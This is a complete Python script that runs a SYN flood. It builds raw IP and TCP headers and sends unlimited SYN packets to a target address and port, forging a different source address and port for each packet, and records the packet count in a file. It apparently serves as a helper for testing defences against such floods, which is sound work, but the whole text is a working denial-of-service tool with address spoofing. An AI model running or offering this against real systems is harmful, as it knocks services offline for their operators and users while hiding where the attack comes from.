#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only
"""Sends SYNs from forged addresses until it is killed: synflood.py ADDRESS PORT NETWORK FILE.

NETWORK is two octets such as 10.9. The number of SYNs is written to FILE.
"""

import itertools
import pathlib
import socket
import struct
import sys
import time

from wire import checksum


def main():
    """Sends SYNs, each from another address and port."""
    address, port, network, count = sys.argv[1], int(sys.argv[2]), sys.argv[3], pathlib.Path(sys.argv[4])
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    target = socket.inet_aton(address)
    for n in itertools.count():
        source = f"{network}.{n // 250 % 250}.{n % 250 + 1}"
        segment = struct.pack("!HHIIBBHHH", 1024 + n // 62500 % 60000, port, n & 0x7FFFFFFF, 0, 5 << 4, 2, 8192, 0, 0)
        segment = segment[:16] + struct.pack("!H", checksum(source, address, socket.IPPROTO_TCP, segment)) + segment[18:]
        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, n & 0xFFFF, 0, 64, socket.IPPROTO_TCP, 0,
                             socket.inet_aton(source), target)
        sock.sendto(header + segment, (address, 0))
        if n % 20 == 19:
            count.write_text(f"{n + 1}\n", encoding="ascii")
            # Other processes need processor time, too.
            time.sleep(0.002)


if __name__ == "__main__":
    main()
